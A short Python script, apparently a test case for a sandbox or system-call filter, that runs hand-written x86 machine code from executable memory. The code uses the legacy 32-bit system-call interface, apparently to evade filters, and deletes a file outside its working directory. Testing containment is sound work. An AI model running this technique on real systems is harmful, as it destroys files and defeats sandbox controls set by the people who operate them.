# The call is made as a 32-bit program would, where other numbers mean other things.
# damage: deleted
# needs: linux, x86_64, ctypes
import ctypes
import struct

READ_WRITE_EXECUTE, PRIVATE_ANONYMOUS_LOW, UNLINK = 7, 0x62, 10
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
page = libc.mmap(None, 4096, READ_WRITE_EXECUTE, PRIVATE_ANONYMOUS_LOW, -1, 0)
path = b"../outside/victim.txt\0"
code = b"\x53\xb8" + struct.pack("I", UNLINK) + b"\xbb" + struct.pack("I", page + 256) + b"\xcd\x80\x5b\xc3"
ctypes.memmove(page, code, len(code))
ctypes.memmove(page + 256, path, len(path))
ctypes.CFUNCTYPE(ctypes.c_int)(page)()
